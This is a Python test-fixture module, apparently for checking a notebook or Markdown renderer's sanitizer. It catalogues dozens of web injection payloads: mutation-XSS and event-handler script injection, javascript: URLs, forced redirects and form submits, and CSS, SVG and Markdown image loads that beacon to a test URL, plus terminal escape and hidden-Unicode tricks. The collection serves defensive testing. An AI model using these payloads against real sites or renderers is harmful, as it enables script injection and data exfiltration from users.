"""What a hostile model or child writes: each piece wants the page to load an address of its own, or to run script.

`pieces(base)` gives them by name. A piece that gets its way asks for `base/NAME`, or adds NAME to `window.__pwn`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

_JS = "(top.__pwn=top.__pwn||[]).push('NAME'),fetch('URL',{mode:'no-cors'})"  # no space: attributes need no quotes

# Loads of HTML elements and attributes.
_LOADS = {
    "img": "<img src=URL>",
    "img-unquoted": "<IMG/SRC=URL>",
    "img-no-scheme": '<img src="//HOST/NAME">',
    "img-tab": '<img src="ht\ttp://HOST/NAME">',
    "img-entity": '<img src="&#104;ttp://HOST/NAME">',
    "img-srcset": "<img srcset='URL 1x'>",
    "img-both": "<img src='data:image/png;base64,AAAA' srcset='URL 1x'>",
    "img-lowsrc": "<img lowsrc=URL dynsrc=URL>",
    "picture": "<picture><source srcset=URL><img src='data:image/png;base64,AAAA'></picture>",
    "video": "<video src=URL autoplay></video>",
    "video-poster": "<video poster=URL></video>",
    "audio": "<audio src=URL autoplay></audio>",
    "source": "<video autoplay><source src=URL></video>",
    "track": "<video src='data:video/mp4;base64,AAAA'><track default src=URL></video>",
    "input": "<input type=image src=URL>",
    "iframe": "<iframe src=URL></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<img src=URL>'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<img src=URL>'></iframe>",
    "frameset": "<frameset><frame src=URL></frameset>",
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "stylesheet": "<link rel=stylesheet href=URL>",
    "prefetch": "<link rel=prefetch href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "modulepreload": "<link rel=modulepreload href=URL>",
    "preconnect": "<link rel=preconnect href=URL>",
    "dns-prefetch": "<link rel=dns-prefetch href=//NAME.HOST>",
    "icon": "<link rel=icon href=URL>",
    "css-import": "<style>@import url(URL);</style>",
    "css-import-string": "<style>@import 'URL';</style>",
    "css-font": "<style>@font-face{font-family:NAME;src:url(URL)}.NAME{font-family:NAME}</style><p class=NAME>x</p>",
    "css-background": "<div style='height:9px;background:url(URL)'>x</div>",
    "css-behind-alignment": "<div style='text-align:left;background-image:url(URL)'>x</div>",
    "css-image-set": "<div style='height:9px;background:image-set(\"URL\" 1x)'>x</div>",
    "css-list": "<ul><li style='list-style-image:url(URL)'>x</li></ul>",
    "css-content": "<p style='content:url(URL)'>x</p>",
    "css-cursor": "<p style='cursor:url(URL),auto;border-image:url(URL) 1'>x</p>",
    "css-variable": "<p style='--x:url(URL);background:var(--x)'>x</p>",
    "table-background": "<table background=URL><tr><td background=URL>x</td></tr></table>",
    "svg-image": "<svg><image href=URL /></svg>",
    "svg-xlink": "<svg><image xlink:href=URL /></svg>",
    "svg-use": "<svg><use href='URL#x'/></svg>",
    "svg-filter": "<svg><filter id=f><feImage href=URL /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg-style": "<svg><style>@import 'URL';</style></svg>",
    "svg-foreign": "<svg><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src=URL></foreignObject></svg>",
    "math-text": "<math><mtext><img src=URL></mtext></math>",
    "in-a-table": "<table><tr><td>1<img src=URL></td></tr></table>",
    "fostered": "<table><img src=URL><tr><td>1</table>",
    "comment-open": "<!--><img src=URL>-->",
    "cdata": "<![CDATA[><img src=URL>]]>",
}
# These move or change the whole page where they work: no part of the control.
_MOVES = {
    "refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "base": "<base href='http://HOST/'><img src=NAME>",
    "form": "<form action=URL id=NAME></form><script>document.getElementById('NAME').submit()</script>",
    "location": "<script>location='URL'</script>",
    "click": "<a href=URL ping=URL target=_self id=NAME>x</a><script>document.getElementById('NAME').click()</script>",
}
# Script, and what makes a harmless tree harmful when it is written out and read again.
_SCRIPTS = {
    "script": "<script>@JS@</script>",
    "script-src": "<script src=URL></script>",
    "script-module": "<script type=module>import 'URL'</script>",
    "script-slash": "<script/x>@JS@</script >",
    "script-broken": '<IMG """><Script>@JS@</Script>">',
    "script-nested": "<scr<script>ipt>@JS@</scr</script>ipt>",
    "alert": "<script>alert('NAME')</script>",
    "onerror": '<img src=x onerror="@JS@">',
    "onerror-data": "<img src='data:image/png;base64,AAAA' onerror=\"@JS@\">",
    "onload-svg": '<svg onload="@JS@"></svg>',
    "ontoggle": '<details open ontoggle="@JS@">x</details>',
    "onfocus": '<p tabindex=1 autofocus onfocus="@JS@">x</p>',
    "onanimation": "<style>@keyframes NAME{}</style><p style='animation:NAME 1s' onanimationstart=\"@JS@\">x</p>",
    "media-onerror": '<video><source src=x onerror="@JS@"></video>',
    "iframe-script": '<iframe src="javascript:@JS@"></iframe>',
    "srcdoc-script": '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    "object-script": "<object data='data:text/html,<script>1</script><img src=URL>'></object>",
    "mutation-style": '<svg></p><style><a id="</style><img src=x onerror=@JS@>">',
    "mutation-glyph": (
        '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="@JS@"></style></mglyph></form>'
    ),
    "mutation-table": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@JS@&gt;">'
    ),
    "mutation-annotation": (
        '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=@JS@>">'
    ),
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=@JS@>">',
    "mutation-xmp": '<xmp><p title="</xmp><img src=x onerror=@JS@>">',
    "mutation-textarea": '<textarea><p title="</textarea><img src=x onerror=@JS@>">',
    "mutation-title": '<title><p title="</title><img src=x onerror=@JS@>">',
    "mutation-noembed": '<noembed><p title="</noembed><img src=x onerror=@JS@>">',
    "mutation-iframe": '<iframe><p title="</iframe><img src=x onerror=@JS@>">',
    "mutation-select": (
        '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=@JS@>">'
    ),
    "mutation-deep": "<div>" * 300 + '<svg><style><a title="</style><img src=x onerror=@JS@>">',
    "title-attribute": '<b title=\'"><img src=x onerror="@JS@">\'>x</b>',
    "jupyter-command": (
        "<button class='jp-Button' data-commandlinker-command='apputils:notify'"
        ' data-commandlinker-args=\'{"message":"NAME"}\'>x</button>'
    ),
    "plaintext": "<plaintext><img src=URL>",
}
_MARKDOWN = {
    "md-image": "![x](URL)",
    "md-image-angle": "![x](<URL>)",
    "md-image-title": "![x](URL 'title')",
    "md-image-escaped": "\\\\![x](URL) \\!\\[x](URL)",
    "md-image-entity": "&#33;[x](URL) !&#91;x](URL)",
    "md-image-lines": "![a\nb](\nURL\n)",
    "md-reference": "![x][NAME]\n\n[NAME]: URL",
    "md-reference-short": "![NAME]\n\n[NAME]: URL 'x'",
    "md-reference-lines": "![NAME][]\n\n[NAME]:\n   URL",
    "md-linked-image": "[![x](URL)](URL)",
    "md-link": "[x](URL) <URL> URL www.NAME.example",
    "md-link-script": "[x](javascript:@JS@) <javascript:@JS@>",
    "md-list": "- [ ] ![x](URL)\n  1. > ![x](URL)",
    "md-table": "| a | `b | c` |\n|---|---|\n| ![x](URL) | `a` ![x](URL) |",
    "md-heading": "# ![x](URL)\n\n![x](URL)\n===",
    "md-code": "`` ` `` ![x](URL) `a` ![x](URL) `",
    "md-fence-open": "```\na\n\n![x](URL)",
    "md-fence-inner": "````\n```\n````\n![x](URL)\n```\n<img src=URL>\n```",
    "md-fence-tilde": "~~~ `\n![x](URL)\n~~~\n![x](URL)",
    "md-indented": "    code\n![x](URL)\n\n\t<img src=URL>",
    "md-footnote": "a[^1]\n\n[^1]: ![x](URL)",
    "md-html": "a <img src=URL> b\n\n<div>\n\n![x](URL)\n\n</div>\n\n<pre><img src=URL></pre>",
    "md-html-comment": "<!-- -->\n![x](URL)\n<?x?><!X><img src=URL>",
    "md-mermaid": "```mermaid\nflowchart LR\nA[\"<img src='URL'>\"] --> B\nclick A call alert()\n```",
    "md-math": "$\\href{URL}{x}$ $$\\style{background:url(URL)}{x}$$ \\(\\href{javascript:@JS@}{x}\\)",
    "md-math-html": "$a<img src=URL>b$ \\begin{align}<img src=URL>\\end{align}",
    "md-math-more": "$$\\htmlData{x=URL}{x}\\includegraphics{URL}\\url{URL}\\unicode{x}$$ \\\\[\\href{URL}{x}\\\\]",
    "md-attachment": "![x](attachment:NAME.png) ![x](NAME.png) ![x](/files/NAME.png)",
}
_TEXT = {
    "osc-8": "\x1b]8;;URL\x1b\\x\x1b]8;;\x07 \x9d8;;URL\x9cx",
    "osc-9": "\x1b]1337;File=inline=1:URL\x07\x1bP+qURL\x1b\\\x1b_GURL\x1b\\",
    "ansi-html": "\x1b[31m<img src=URL>\x1b[0m\x1b[<img src=URL>m",
    "hidden": "\u202e<\u2066img src=URL>\u200f\U000e0041",
    "separators": "\u2028<img src=URL>\u2029![x](URL)\x0b\x0c\x85<script>@JS@</script>",
}


def pieces(base: str, *kinds: str) -> dict[str, str]:
    """The pieces by name; of `kinds` ("loads", "moves", "scripts", "markdown", "text"), or all of them."""
    all_kinds = {"loads": _LOADS, "moves": _MOVES, "scripts": _SCRIPTS, "markdown": _MARKDOWN, "text": _TEXT}
    host = base.split("//")[1]
    return {
        name: piece.replace("@JS@", _JS).replace("URL", f"{base}/NAME").replace("HOST", host).replace("NAME", name)
        for kind in kinds or all_kinds
        for name, piece in all_kinds[kind].items()
    }


_SNIPPETS = r"""
` `` ``` ~~~ $ $5 $x$ $$ \ \( \) \[ \] \\[ \\] \begin{a} \end{a} \ref{x} { } @@0@@ &#36; &dollar; | |-|-| > - ! ] [
[a](//e) ![x](//e) <img/src=//e> <a/href=//e> <!-- --> <pre> www.e.org http://e.org a `\[` `\begin{a}` `![x](//e)`
# * 1.
""".split()  # noqa: SIM905 - as a list it is a page long
_SNIPPETS += [" at 0x1234", "\n", "\n\n", " ", "    ", "\t", "[b]: //e", "\n```\n", "\n```python\n", "\n````\n", "\n> "]


def puzzles(seed: int, count: int) -> Iterator[str]:
    """Texts that confuse readers of Markdown about what is code, what a formula, and what neither."""
    chance = random.Random(seed)
    for _ in range(count):
        yield "".join(chance.choices(_SNIPPETS, k=chance.randrange(2, 25)))
